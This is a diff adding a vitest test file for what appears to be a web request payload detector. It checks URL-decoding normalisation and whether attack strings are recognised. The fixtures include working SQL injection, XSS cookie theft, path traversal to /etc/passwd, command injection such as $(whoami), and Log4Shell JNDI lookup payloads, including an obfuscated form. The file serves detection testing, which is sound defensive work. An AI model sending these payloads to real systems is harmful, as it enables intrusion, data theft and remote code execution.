@@ -1,0 +1,66 @@
+// Payload recognition after decoding: evasions are caught, look-alike legitimate text is not.
+import { describe, expect, it } from 'vitest';
+import { matchPayload, normalizeRequestText } from '../../../src/core/analysis';
+
+describe('normalizeRequestText', () => {
+  it('decodes repeatedly, folds case, drops SQL comments', () => {
+    expect(normalizeRequestText('%253Cscript%253E')).toBe('<script>');
+    expect(normalizeRequestText('UNION/**/SeLeCt')).toBe('union select');
+    expect(normalizeRequestText('a+b%2Bc')).toBe('a b+c');
+    expect(normalizeRequestText('%u003cimg%u003e')).toBe('<img>');
+    expect(normalizeRequestText('&#x3C;svg&#62;')).toBe('<svg>');
+  });
+
+  it('survives invalid escapes and invalid UTF-8 without throwing', () => {
+    expect(() => normalizeRequestText('%E0%A4%A')).not.toThrow();
+    expect(() => normalizeRequestText('%ff%fe%zz%')).not.toThrow();
+  });
+});
+
+describe('matchPayload', () => {
+  const attacks: [string, string][] = [
+    ['/item?id=1%27%20or%20%271%27=%271', 'sqli'],
+    ['/p?id=1+UNION+ALL+SELECT+NULL,NULL--', 'sqli'],
+    ['/p?id=1;WAITFOR%20DELAY%20%270:0:5%27', 'sqli'],
+    ['/p?id=1 AND SLEEP(5)', 'sqli'],
+    ['/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E', 'xss'],
+    ['/s?q=javascript:alert(document.cookie)', 'xss'],
+    ['/d?f=....//....//etc/passwd', 'traversal'],
+    ['/d?f=%252e%252e%252f%252e%252e%252fwin.ini', 'traversal'],
+    ['/cgi?x=1|id', 'cmdi'],
+    ['/cgi?x=$(whoami)', 'cmdi'],
+    ['/cgi?x=%60uname%20-a%60', 'cmdi'],
+    ['/?x=${jndi:ldap://a.b/c}', 'jndi'],
+    ['/?x=${${lower:j}ndi:ldap://a.b/c}', 'jndi'],
+    ['/index.php?page=php://filter/convert.base64-encode/resource=index', 'php'],
+  ];
+  for (const [req, kind] of attacks) {
+    it(`finds ${kind} in ${req}`, () => {
+      expect(matchPayload(req)?.kind).toBe(kind);
+    });
+  }
+
+  const benign = [
+    "/search?q=o'reilly+books",
+    '/products/select-chair-oak',
+    '/blog/script-writing-tips',
+    '/search?q=union+station+hotels',
+    '/search?q=rock+%26+roll',
+    '/a/b/c/../d.html',
+    '/api/items?sort=price&order=desc&select=name,price',
+    '/product/31893/%D8%B3%D8%B4%D9%88%D8%A7%D8%B1',
+    '/files/?C=N;O=A',
+  ];
+  for (const req of benign) {
+    it(`leaves ${req} alone`, () => {
+      expect(matchPayload(req)).toBeNull();
+    });
+  }
+
+  it('shows the fragment as inert text (control and bidi characters replaced)', () => {
+    const m = matchPayload('/x?q=%3Cscript%3E%E2%80%AEalert(1)%00');
+    expect(m?.kind).toBe('xss');
+    expect(m!.fragment.includes('\u0000')).toBe(false);
+    expect(m!.fragment.includes('\u202e')).toBe(false);
+  });
+});
